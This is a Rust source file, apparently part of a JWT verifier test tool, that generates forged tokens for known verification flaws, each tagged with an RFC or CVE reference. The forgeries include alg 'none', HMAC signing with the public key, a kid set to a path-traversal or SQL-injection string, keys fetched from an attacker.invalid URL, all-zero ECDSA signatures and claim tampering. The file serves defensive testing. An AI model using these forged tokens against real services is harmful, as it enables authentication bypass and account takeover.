//! The variants: one function a group of attacks.

use super::super::edit::{self, NewValue, Position, quoted};
use super::{DEPTH, Expected, Forge};
use crate::engine::crypto::{confusion, key_management, pkey};
use crate::engine::ground::jwa::{Curve, SignatureFamily};
use crate::engine::ground::secret::SecretBytes;
use crate::engine::ground::{base64url, json};
use crate::engine::key::KeyMaterial;
use crate::engine::key_file::jwk_text;

impl Forge<'_> {
    pub(super) fn unsecured(&mut self) {
        let reference = "RFC 8725 §3.2; CVE-2015-2951";
        let why = "The verifier lets the token decide that it needs no signature";
        for (name, value) in [
            ("alg-none", "none"),
            ("alg-none-capital", "None"),
            ("alg-none-capitals", "NONE"),
            ("alg-none-mixed", "nOnE"),
        ] {
            let token = self.with_header(&self.with("alg", NewValue::Text(value)), b"");
            self.reject(name, format!("alg is \"{value}\" and the signature is empty"), why, reference, token);
        }
        let token = self.with_header(&self.with("alg", NewValue::Text("none")), &self.signature);
        self.reject("alg-none-signed", "alg is \"none\" and the old signature is kept", why, reference, token);
        let token = self.with_header(&self.with("alg", NewValue::Text("")), b"");
        self.reject("alg-empty", "alg is empty, and so is the signature", why, reference, token);
        if let Ok(edited) = edit::remove_member(&self.header, "alg", DEPTH) {
            let token = self.with_header(&edited.text, &self.signature);
            let why = "The verifier guesses an algorithm, although the header must name one";
            self.reject("alg-missing", "alg is removed", why, "RFC 7515 §4.1.1", token);
        }
    }

    pub(super) fn algorithms(&mut self) {
        let name = self.row.name;
        let lower = name.to_ascii_lowercase();
        if let Some(token) = self.resigned_header(&self.with("alg", NewValue::Text(&lower))) {
            let why =
                "Algorithm names are case-sensitive; a case-insensitive comparison accepts names that are on no list";
            self.reject("alg-case", format!("alg is \"{lower}\", signed as {name}"), why, "RFC 7515 §4.1.1", token);
        }
        let other = match name {
            "HS256" => "HS512",
            "HS384" | "HS512" => "HS256",
            "RS256" => "PS256",
            "RS384" | "RS512" | "PS256" | "PS384" | "PS512" => "RS256",
            "ES256" => "ES384",
            "ES384" | "ES512" | "ES256K" | "EdDSA" | "Ed25519" | "Ed448" => "ES256",
            "ML-DSA-44" => "ML-DSA-65",
            _ => "ML-DSA-44",
        };
        let header = self.with("alg", NewValue::Text(other));
        if let Some(token) = self.resigned_header(&header) {
            let why =
                "The verifier does not use the algorithm that the header names, or accepts one that it should not";
            self.reject("alg-swapped", format!("alg is \"{other}\", signed as {name}"), why, "RFC 8725 §3.1", token);
        }
        // RS→HS: anyone who has the public key can make these.
        let header = self.with("alg", NewValue::Text("HS256"));
        for (writing, text) in confusion::public_key_texts(&self.key.material) {
            let Some(token) = self.forged(&header, "HS256", &KeyMaterial::Oct(SecretBytes::new(text))) else {
                continue;
            };
            let name = match writing {
                "its PEM text" => "hmac-public-key-pem",
                "its PEM text without the last line break" => "hmac-public-key-pem-trimmed",
                "its PKCS#1 PEM text" => "hmac-public-key-pkcs1",
                "its PKCS#1 PEM text without the last line break" => "hmac-public-key-pkcs1-trimmed",
                _ => "hmac-public-key-der",
            };
            let why = "The verifier uses the public key as an HMAC secret because the token says HS256";
            let title = format!("HS256 with the public key as the secret: {writing}");
            self.reject(name, title, why, "RFC 8725 §2.1; CVE-2015-9235", token);
        }
    }

    /// Keys that the attacker chooses.
    pub(super) fn keys(&mut self) {
        let hs256 = self.with("alg", NewValue::Text("HS256"));
        let with_kid = |kid: &str| {
            edit::set_member(&hs256, "kid", NewValue::Text(kid), Position::Last, DEPTH).map(|edited| edited.text)
        };
        if let Ok(header) = with_kid("../../../../../../dev/null")
            && let Some(token) = self.forged(&header, "HS256", &KeyMaterial::Oct(SecretBytes::default()))
        {
            let why = "The verifier opens the file that kid names, and /dev/null yields an empty secret";
            let title = "kid is a path to an empty file; HS256 with the empty secret";
            self.reject("kid-path-traversal", title, why, "RFC 8725 §3.10", token);
        }
        if let Ok(header) = with_kid("x' UNION SELECT 'attacker' -- ")
            && let Some(token) = self.forged(&header, "HS256", &KeyMaterial::Oct(SecretBytes::from(&b"attacker"[..])))
        {
            let why = "The verifier puts kid into an SQL query, and the attacker's text becomes the secret";
            let title = "kid is an SQL injection; HS256 with the secret that it selects";
            self.reject("kid-sql-injection", title, why, "RFC 8725 §3.10", token);
        }
        if let Ok(fresh) = pkey::ephemeral(Curve::P256)
            && let Some(jwk) = jwk_text::public_text(&fresh)
        {
            let es256 = self.with("alg", NewValue::Text("ES256"));
            let with = |name: &str, value: NewValue<'_>| {
                edit::set_member(&es256, name, value, Position::Last, DEPTH).map(|edited| edited.text)
            };
            let chosen = "The verifier uses the key in the very token that it verifies";
            if let Ok(header) = with("jwk", NewValue::Json(&jwk))
                && let Some(token) = self.forged(&header, "ES256", &fresh)
            {
                let title = "Signed with a new key, which is in the header (jwk)";
                self.reject("embedded-jwk", title, chosen, "RFC 8725 §3.10; CVE-2018-0114", token);
            }
            for name in ["jku", "x5u"] {
                let address = NewValue::Text("https://attacker.invalid/keys");
                if let Ok(header) = with(name, address)
                    && let Some(token) = self.forged(&header, "ES256", &fresh)
                {
                    let why = "The verifier fetches keys from wherever the token says";
                    let title = format!("Signed with a new key; {name} points to the attacker's server");
                    self.reject(name, title, why, "RFC 8725 §3.10", token);
                }
            }
        }
        let other = match &self.key.material {
            KeyMaterial::Ec { curve, .. } if curve.row().agrees => pkey::ephemeral(*curve).ok(),
            KeyMaterial::Oct(secret) => {
                key_management::random(secret.len().max(32)).ok().map(|bytes| KeyMaterial::Oct(SecretBytes::new(bytes)))
            }
            _ => None,
        };
        if let Some(other) = other
            && let Some(token) = self.forged(&self.header, self.row.name, &other)
        {
            let why = "The verifier does not verify the signature at all";
            self.reject("another-key", "Signed with a new key of the same kind", why, "RFC 7515 §5.2", token);
        }
    }

    pub(super) fn header_rules(&mut self) {
        let unknown = self.with("crit", NewValue::Json(r#"["urn:example:unknown"]"#));
        let unknown = edit::set_member(&unknown, "urn:example:unknown", NewValue::Json("true"), Position::Last, DEPTH);
        if let Ok(edited) = unknown
            && let Some(token) = self.resigned_header(&edited.text)
        {
            let why = "The verifier ignores crit, and with it what the signer declared mandatory";
            let title = "crit requires an unknown extension; re-signed";
            self.reject("crit-unknown", title, why, "RFC 7515 §4.1.11; CVE-2026-32597", token);
        }
        if let Some(token) = self.resigned_header(&self.with("crit", NewValue::Json("[]"))) {
            let why = "crit must not be empty; a verifier that accepts it does not check crit";
            self.reject("crit-empty", "crit is an empty list; re-signed", why, "RFC 7515 §4.1.11", token);
        }
        if let Some(token) = self.resigned_header(&self.with("crit", NewValue::Json(r#"["exp"]"#))) {
            let why = "crit names a parameter that is not in the header";
            let title = "crit names a missing parameter; re-signed";
            self.reject("crit-absent", title, why, "RFC 7515 §4.1.11", token);
        }
        let twice = self.header.replacen('{', &format!("{{{}:{},", quoted("alg"), quoted("none")), 1);
        if let Some(token) = self.resigned_header(&twice) {
            let why = "Parsers disagree on which duplicate wins: verification and use may see different values";
            let title = "alg appears twice, \"none\" first; re-signed";
            self.add("alg-twice", title, why, "RFC 7515 §4", Expected::RejectOrUseLast, token);
        }
        let token = self.with_header(&self.with("x-added", NewValue::Json("1")), &self.signature);
        let why = "The verifier does not verify the signature over the header as received";
        self.reject(
            "header-changed",
            "A member is added to the header; the signature is kept",
            why,
            "RFC 7515 §5.2",
            token,
        );
    }

    pub(super) fn signatures(&mut self) {
        let (header, payload) = (self.header_part, self.payload_part);
        let whole = |signature: &[u8]| format!("{header}.{payload}.{}", base64url::encode(signature));
        let unchecked = "The verifier does not verify the signature at all, or treats a missing one as valid";
        self.reject("signature-stripped", "The signature is empty", unchecked, "RFC 7515 §5.2", whole(b""));
        let token = format!("{header}.{payload}");
        self.reject(
            "signature-missing",
            "Two parts: the signature and its dot are removed",
            unchecked,
            "RFC 7515 §3.1",
            token,
        );
        let mut flipped = self.signature.clone();
        let middle = flipped.len() / 2;
        if let Some(byte) = flipped.get_mut(middle) {
            *byte ^= 1;
        }
        self.reject(
            "signature-flipped",
            "One bit of the signature is flipped",
            unchecked,
            "RFC 7515 §5.2",
            whole(&flipped),
        );
        let mut short = self.signature.clone();
        short.pop();
        let why = "The verifier compares only as many bytes as it is given";
        self.reject("signature-truncated", "The signature is one byte short", why, "RFC 7515 §5.2", whole(&short));
        let mut long = self.signature.clone();
        long.push(0);
        let why = "The verifier ignores data after the signature";
        self.reject(
            "signature-extended",
            "A zero byte is added after the signature",
            why,
            "RFC 7515 §5.2",
            whole(&long),
        );
        if self.row.family == SignatureFamily::Ecdsa {
            let zero = vec![0; self.signature.len()];
            let why =
                "The verifier does not check that r and s are above zero: this \"psychic signature\" fits every text";
            self.reject("signature-psychic", "r and s are zero", why, "CVE-2022-21449", whole(&zero));
            let why = "JOSE concatenates r and s; a verifier that also accepts ASN.1 accepts two texts for one token";
            let der = der(&self.signature);
            self.reject("signature-der", "The signature is in ASN.1 (DER)", why, "RFC 7518 §3.4", whole(&der));
        }
        if let Some(claims) = &self.claims {
            let added = edit::set_member(claims, "admin", NewValue::Json("true"), Position::Last, DEPTH);
            if let Ok(added) = added {
                let token = self.token(&self.header, &added.text, &self.signature);
                let title = "\"admin\":true is added to the claims; the signature is kept";
                self.reject("claims-changed", title, unchecked, "RFC 7515 §5.2", token);
            }
        }
    }

    pub(super) fn encoding(&mut self) {
        let (header, payload, signature) = (self.header_part, self.payload_part, self.signature_part);
        let why = "Several texts for one token defeat deny lists and caches; JOSE allows one form of base64url";
        let reference = "RFC 7515 §2; RFC 4648 §3.5";
        if let Some(other) = with_trailing_bits(signature) {
            let title = "The unused bits in the last character of the signature are not zero";
            self.reject("base64url-trailing-bits", title, why, reference, format!("{header}.{payload}.{other}"));
        }
        let padding = match signature.len() % 4 {
            2 => "==",
            _ => "=",
        };
        self.reject(
            "base64url-padded",
            "The signature is padded with =",
            why,
            "RFC 7515 §2",
            format!("{header}.{payload}.{signature}{padding}"),
        );
        let standard = signature.replace('-', "+").replace('_', "/");
        if standard != signature {
            let title = "The signature is in standard base64";
            self.reject("base64-alphabet", title, why, "RFC 7515 §2", format!("{header}.{payload}.{standard}"));
        }
        let (start, end) = signature.split_at_checked(signature.len() / 2).unwrap_or((signature, ""));
        self.reject(
            "base64url-line-break",
            "There is a line break inside the signature",
            why,
            "RFC 7515 §2",
            format!("{header}.{payload}.{start}\n{end}"),
        );
        let why = "The verifier splits at dots and reads only the first three parts";
        self.reject("fourth-part", "A fourth part is added", why, "RFC 7515 §5.2", format!("{}.AAAA", self.token));
    }

    pub(super) fn claims(&mut self) {
        let Some(claims) = self.claims.clone() else { return };
        let set = |name: &str, value: &str| {
            let edited = edit::set_member(&claims, name, NewValue::Json(value), Position::Last, DEPTH);
            edited.ok().map(|edited| edited.text)
        };
        let document = json::scan(claims.as_bytes(), DEPTH);
        let has = |name: &str| document.object().is_some_and(|object| object.get(name).is_some());
        let mut variants: Vec<(&'static str, &'static str, &'static str, &'static str, Option<String>)> = vec![
            (
                "expired",
                "Expired an hour ago; re-signed",
                "The verifier does not check exp",
                "RFC 7519 §4.1.4",
                set("exp", &self.now.saturating_sub(3600).to_string()),
            ),
            (
                "exp-now",
                "exp is the current second; re-signed",
                "A token must not be accepted on or after exp",
                "RFC 7519 §4.1.4",
                set("exp", &self.now.to_string()),
            ),
            (
                "exp-text",
                "exp is a string; re-signed",
                "A time that is not a number must not be ignored",
                "RFC 7519 §2; CVE-2026-25537",
                set("exp", &quoted(&self.now.saturating_add(3600).to_string())),
            ),
            (
                "not-yet",
                "nbf is an hour from now; re-signed",
                "The verifier does not check nbf",
                "RFC 7519 §4.1.5",
                set("nbf", &self.now.saturating_add(3600).to_string()),
            ),
        ];
        if has("aud") {
            variants.push((
                "wrong-audience",
                "aud is another service; re-signed",
                "The verifier accepts tokens that are meant for others",
                "RFC 7519 §4.1.3; RFC 8725 §3.9",
                set("aud", "\"https://another-service.invalid\""),
            ));
        }
        if has("iss") {
            variants.push((
                "wrong-issuer",
                "iss is another issuer; re-signed",
                "The verifier does not bind the key to its issuer",
                "RFC 7519 §4.1.1; RFC 8725 §3.8",
                set("iss", "\"https://another-issuer.invalid\""),
            ));
        }
        for (name, title, why, reference, text) in variants {
            if let Some(token) = text.and_then(|text| self.resigned_claims(&text)) {
                self.add(name, title, why, reference, Expected::RejectClaims, token);
            }
        }
        self.malformed_claims(&claims, if has("sub") { "sub" } else { "jotsmith" });
    }

    /// Claims that two parsers read in two ways, and claims that are not JSON.
    fn malformed_claims(&mut self, claims: &str, name: &'static str) {
        // The original's value stays the last, so that who uses the last sees what was signed before.
        let has_it = json::scan(claims.as_bytes(), DEPTH).object().is_some_and(|object| object.get(name).is_some());
        let last = || edit::set_member(claims, name, NewValue::Json("\"last\""), Position::Last, DEPTH);
        let once = if has_it { Some(claims.to_owned()) } else { last().ok().map(|edited| edited.text) };
        let twice = once.map(|once| once.replacen('{', &format!("{{{}:{},", quoted(name), quoted("first")), 1));
        if let Some(token) = twice.and_then(|text| self.resigned_claims(&text)) {
            let why = "Parsers disagree on which duplicate wins: one service may check the first, and the next use the second";
            let title = format!("{name} appears twice; re-signed");
            self.add("claim-twice", title, why, "RFC 7519 §4", Expected::RejectOrUseLast, token);
        }
        if let Some(token) = claims.strip_suffix('}').and_then(|cut| self.resigned_claims(cut)) {
            let why = "Invalid JSON is not a claims set; a lenient parser may see other claims";
            self.add(
                "claims-broken",
                "The last brace is removed; re-signed",
                why,
                "RFC 7519 §7.2",
                Expected::RejectClaims,
                token,
            );
        }
    }
}

/// The same bytes, but with a bit in the last character that must be zero; `None` where there is no such bit.
pub(super) fn with_trailing_bits(part: &str) -> Option<String> {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    if !matches!(part.len() % 4, 2 | 3) {
        return None;
    }
    let (start, last) = part.split_at_checked(part.len() - 1)?;
    let value = ALPHABET.iter().position(|character| last.as_bytes().first() == Some(character))?;
    let other = ALPHABET.get(value | 1).filter(|_| value & 1 == 0)?;
    Some(format!("{start}{}", char::from(*other)))
}

/// r‖s as `SEQUENCE { INTEGER, INTEGER }` (RFC 3279 §2.2.3).
fn der(signature: &[u8]) -> Vec<u8> {
    fn integer(bytes: &[u8]) -> Vec<u8> {
        let zeros = bytes.iter().take_while(|byte| **byte == 0).count().min(bytes.len().saturating_sub(1));
        let mut number = bytes.get(zeros..).unwrap_or_default().to_vec();
        if number.first().is_none_or(|first| *first >= 0x80) {
            number.insert(0, 0);
        }
        element(0x02, &number)
    }
    fn element(tag: u8, content: &[u8]) -> Vec<u8> {
        // At most 2 × 68 bytes: P-521 is the longest curve.
        let len = u8::try_from(content.len()).unwrap_or(u8::MAX);
        let mut out = if len < 0x80 { vec![tag, len] } else { vec![tag, 0x81, len] };
        out.extend_from_slice(content);
        out
    }
    let (r, s) = signature.split_at_checked(signature.len() / 2).unwrap_or((signature, &[]));
    element(0x30, &[integer(r), integer(s)].concat())
}
